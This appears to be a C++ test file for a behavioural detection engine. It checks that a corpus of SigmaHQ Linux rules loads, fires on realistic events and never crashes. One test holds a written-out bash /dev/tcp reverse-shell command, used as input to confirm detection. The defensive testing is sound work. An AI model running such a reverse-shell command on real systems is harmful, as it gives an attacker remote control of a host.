// The SigmaHQ Linux rules in the shared corpus (250 rules): at least 230 must
// load, none may crash the loader or the evaluator.
#include <algorithm>

#include "sigma_test_util.hpp"

using namespace sigma_test;
using vigil::behavior::sigma::LoadOptions;

namespace {

std::filesystem::path corpus() { return std::filesystem::path(VIGIL_CORPUS_DIR) / "sigma"; }

LoadOptions corpus_options() {
    return LoadOptions{{corpus() / "rules", corpus() / "rules-emerging-threats", corpus() / "rules-threat-hunting"},
                       false};
}

}  // namespace

TEST_CASE("behavior_sigma_corpus: at least 230 of the 250 Linux rules load") {
    REQUIRE(std::filesystem::is_directory(corpus()));
    Detector d;
    auto stats = d.load(corpus_options());
    for (const auto& i : stats.issues) MESSAGE("skipped " << i.file << ": " << i.reason);
    MESSAGE("corpus: " << stats.loaded << " loaded, " << stats.skipped << " skipped, " << stats.active << " active");
    CHECK(stats.files == 250);
    CHECK(stats.loaded + stats.skipped == 250);
    CHECK(stats.loaded >= 230);
    // process_creation (144), file_event (18) and network_connection (5) are all ours.
    CHECK(stats.per_category[size_t(Category::ProcessCreation)] == 144);
    CHECK(stats.per_category[size_t(Category::FileEvent)] == 18);
    CHECK(stats.per_category[size_t(Category::NetworkConnection)] == 5);
}

TEST_CASE("behavior_sigma_corpus: corpus rules fire on realistic events") {
    Detector d;
    d.load(corpus_options());
    auto ids = [&](const SigmaEvent& e) {
        std::vector<std::string> out;
        for (const auto& m : d.evaluate(e)) out.push_back(m.rule->id);
        return out;
    };
    auto has = [](const std::vector<std::string>& v, std::string_view id) {
        return std::find(v.begin(), v.end(), id) != v.end();
    };

    // net_connection_lnx_susp_malware_callback_port.yml (cidr filter).
    constexpr std::string_view kCallbackPort = "dbfc7c98-04ab-4ab7-aa94-c74d22aa7376";
    auto out = event(Category::NetworkConnection, {{FieldId::Image, "/tmp/x"},
                                                   {FieldId::Initiated, "true"},
                                                   {FieldId::DestinationIp, "198.51.100.7"},
                                                   {FieldId::DestinationPort, "4444"}});
    CHECK(has(ids(out), kCallbackPort));
    out.set(FieldId::DestinationIp, "10.0.0.7");
    CHECK_FALSE(has(ids(out), kCallbackPort));
    out.set(FieldId::DestinationIp, "fd00::7");
    CHECK_FALSE(has(ids(out), kCallbackPort));

    // A classic /dev/tcp reverse shell is caught by some corpus rule.
    CHECK_FALSE(ids(process("/bin/bash", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")).empty());
    // An ordinary command is caught by none.
    CHECK(ids(process("/usr/bin/ls", "ls -la /home/alice")).empty());
}

TEST_CASE("behavior_sigma_corpus: every loaded rule evaluates every kind of event without crashing") {
    Detector d;
    d.load(corpus_options());
    std::vector<SigmaEvent> events;
    for (auto c : {Category::ProcessCreation, Category::ProcessTermination, Category::FileEvent, Category::FileDelete,
                   Category::FileRename, Category::FileAccess, Category::NetworkConnection}) {
        events.push_back(SigmaEvent(c));  // no fields at all
        SigmaEvent full(c);
        for (std::size_t f = 0; f < vigil::behavior::sigma::kFieldCount; ++f)
            full.set(static_cast<FieldId>(f), std::string(300, 'a') + " -\xC3\xA9\xFF*?\\ 1.2.3.4");
        events.push_back(full);
    }
    std::size_t total = 0;
    for (const auto& e : events) total += d.evaluate(e).size();
    CHECK(total < 10000);  // ran to completion
}
